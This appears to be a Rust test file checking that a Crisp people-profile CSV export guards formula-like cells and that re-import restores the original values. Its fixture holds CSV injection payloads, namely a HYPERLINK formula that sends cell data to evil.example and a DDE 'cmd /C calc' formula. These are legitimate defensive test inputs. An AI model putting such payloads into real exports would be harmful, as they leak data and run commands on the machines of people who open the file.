//! CSV injection: an export is safe to open in a spreadsheet, and importing it gives back every value exactly.

use crisp_client::people::{AddPeopleProfile, GetPeopleProfile, PeopleProfileWrite};
use crisp_client::Request;
use crisp_people_csv::{plan_import, run_import, Cancel, ImportOptions};
use serde_json::{json, Value};

use crate::support::World;

/// A profile whose texts would run as formulas in a spreadsheet, next to a phone number and negative numbers
/// that must come back unchanged.
fn hostile_profile() -> Value {
    json!({
        "email": "eve@example.com",
        "person": {
            "nickname": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "phone": "+33 6 12 34 56 78",
            "address": "@SUM(1+1)*cmd|' /C calc'!A0",
            "description": "-2+3",
            "employment": { "title": "\tindented" },
            "timezone": -60,
            "geolocation": { "coordinates": { "latitude": -33.87, "longitude": -70.66 } }
        },
        "company": { "name": "'=already quoted", "description": "\rreturn first" },
        "segments": ["=evil", "-1"],
        "notepad": "plain text"
    })
}

/// The fields of `hostile_profile` as dotted paths, their values, and the cell the export must hold.
const CELLS: [(&str, &str); 8] = [
    (
        "person.nickname",
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    ),
    ("person.phone", "'+33 6 12 34 56 78"),
    ("person.address", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("person.description", "'-2+3"),
    ("person.employment.title", "'\tindented"),
    ("company.name", "''=already quoted"),
    ("company.description", "'\rreturn first"),
    ("notepad", "plain text"),
];

async fn add(world: &World, profile: &Value) {
    let body: PeopleProfileWrite =
        serde_json::from_value(profile.clone()).expect("a valid profile body");
    world
        .client
        .send(&AddPeopleProfile::new(world.website_id(), body))
        .await
        .expect("the sandbox takes the profile");
}

async fn read_back(world: &World, email: &str) -> Value {
    let parts = GetPeopleProfile::new(world.website_id(), email)
        .build()
        .expect("a valid request");
    world
        .client
        .execute(&parts)
        .await
        .expect("the profile is there")
        .data
        .expect("the profile's data")
}

fn at<'a>(value: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(value, |value, key| &value[key])
}

/// The exported CSV file, read back as a spreadsheet would: header names to cells of the one data row.
fn exported_cells(path: &std::path::Path) -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_path(path).expect("the export is a CSV file");
    let header = reader.headers().expect("a header").clone();
    let records: Vec<_> = reader
        .records()
        .collect::<Result<_, _>>()
        .expect("readable rows");
    assert_eq!(records.len(), 1, "one profile, one row");
    header
        .iter()
        .map(str::to_owned)
        .zip(records[0].iter().map(str::to_owned))
        .collect()
}

#[tokio::test]
async fn an_export_guards_formula_cells_and_an_import_of_it_gives_back_every_value_exactly() {
    let source = World::start(0).await;
    let original = hostile_profile();
    add(&source, &original).await;

    let path = std::env::temp_dir().join(format!(
        "crisp-people-csv-injection-{}.csv",
        std::process::id()
    ));
    std::fs::write(&path, source.export_all().await).expect("the export is saved");
    let cells = exported_cells(&path);
    let _ = std::fs::remove_file(&path);
    let cell = |name: &str| {
        cells
            .iter()
            .find(|(column, _)| column == name)
            .map(|(_, cell)| cell.as_str())
            .unwrap_or_else(|| panic!("the export has a {name} column"))
    };
    for (name, expected) in CELLS {
        assert_eq!(
            cell(name),
            expected,
            "{name}: a spreadsheet must see text, never a formula, in the exported cell"
        );
    }
    assert_eq!(
        cell("person.timezone"),
        "-60",
        "a negative number stays a number the spreadsheet can sort"
    );
    assert_eq!(
        cell("person.geolocation.coordinates.latitude"),
        "-33.87",
        "so does a negative coordinate"
    );
    assert_eq!(
        cell("segments"),
        r#"["=evil","-1"]"#,
        "a list is JSON starting with [, which no spreadsheet runs"
    );
    for (name, text) in &cells {
        let number = text.parse::<f64>().is_ok();
        assert!(
            number || !text.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{name}: no exported cell may start a formula: {text:?}"
        );
    }

    let file = source.export_all().await;
    let plan = plan_import(file.as_bytes()).expect("the export is a valid import file");
    assert!(
        plan.failures.is_empty(),
        "the guarded export imports cleanly: {:?}",
        plan.failures
    );
    let target = World::start(0).await;
    let report = run_import(
        &target.client,
        &target.website_id(),
        &plan,
        ImportOptions::default(),
        |_| {},
        &Cancel::new(),
    )
    .await
    .expect("the import runs");
    assert_eq!(report.created, 1, "the profile is created: {report:?}");

    let copy = read_back(&target, "eve@example.com").await;
    for path in CELLS
        .iter()
        .map(|(name, _)| *name)
        .chain(["person.timezone", "segments"])
        .chain([
            "person.geolocation.coordinates.latitude",
            "person.geolocation.coordinates.longitude",
        ])
    {
        assert_eq!(
            at(&copy, path),
            at(&original, path),
            "{path}: the import takes the export's guard off, so the value comes back exactly"
        );
    }
}

#[tokio::test]
async fn a_cell_quoted_by_a_spreadsheet_imports_without_its_quote() {
    let world = World::start(0).await;
    let file = "email,person.nickname,person.phone,person.timezone,notepad\n\
                ana@example.com,'=Ana,'+351 912 345 678,'-60,'just a quote\n";
    let plan = plan_import(file.as_bytes()).expect("a readable file");
    assert!(
        plan.failures.is_empty(),
        "every cell parses: {:?}",
        plan.failures
    );
    run_import(
        &world.client,
        &world.website_id(),
        &plan,
        ImportOptions::default(),
        |_| {},
        &Cancel::new(),
    )
    .await
    .expect("the import runs");
    let profile = read_back(&world, "ana@example.com").await;
    assert_eq!(
        profile["person"]["nickname"],
        json!("=Ana"),
        "the guard before a formula character is not part of the name"
    );
    assert_eq!(
        profile["person"]["phone"],
        json!("+351 912 345 678"),
        "nor of the phone number"
    );
    assert_eq!(
        profile["person"]["timezone"],
        json!(-60),
        "a guarded negative number is the number"
    );
    assert_eq!(
        profile["notepad"],
        json!("'just a quote"),
        "a quote before ordinary text is the user's own and stays"
    );
}
